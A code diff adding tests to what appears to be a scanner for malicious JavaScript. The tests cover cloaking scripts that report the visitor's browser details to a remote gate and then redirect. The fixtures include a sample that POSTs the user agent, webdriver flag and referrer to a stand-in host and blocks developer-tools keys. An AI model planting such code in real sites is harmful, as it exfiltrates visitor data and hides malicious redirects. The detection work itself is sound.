@@ -717,3 +717,31 @@ module.exports = Policy;`,
     ).toContain('js.eval-decoded');
   });
 });
+
+describe('visitors sent where a server decides after it was told who is visiting (cloaking)', () => {
+  const gate = (extra = '') => `${extra}
+var x = new XMLHttpRequest();
+x.open('POST', 'https://sig-gw.example-metrics.net/gate.php', true);
+x.onload = function () { var r = JSON.parse(x.responseText); if (r && r.ok && r.to) setTimeout(function () { location.replace(r.to); }, 600); };
+x.send(JSON.stringify({ ua: navigator.userAgent, wd: !!navigator.webdriver, ref: document.referrer }));`;
+  const level = (code: string) =>
+    load({ 'index.js': code }).evidence.find((f) => f.rule === 'js.gated-remote-script');
+  it('with the developer tools and context menu blocked: critical', () => {
+    const f = level(
+      gate(`document.addEventListener('contextmenu', function (e) { e.preventDefault(); });
+document.addEventListener('keydown', function (e) { if (e.key === 'F12' || (e.ctrlKey && e.shiftKey && e.key === 'I')) e.preventDefault(); }, true);`),
+    );
+    expect(f && 'confidence' in f ? f.confidence : 0).toBeGreaterThanOrEqual(0.8);
+  });
+  it('without them: a warning (payment SDKs send device data and follow a server redirect too)', () => {
+    const f = level(gate());
+    expect(f && 'confidence' in f ? f.confidence : 0).toBe(0.5);
+  });
+  it('quiet: a redirect the server answers to a request that carries no visitor data', () => {
+    expect(
+      level(`var x = new XMLHttpRequest(); x.open('POST', '/api/checkout', true);
+x.onload = function () { location.assign(JSON.parse(x.responseText).url); };
+x.send(JSON.stringify({ cart: 42 }));`),
+    ).toBeUndefined();
+  });
+});
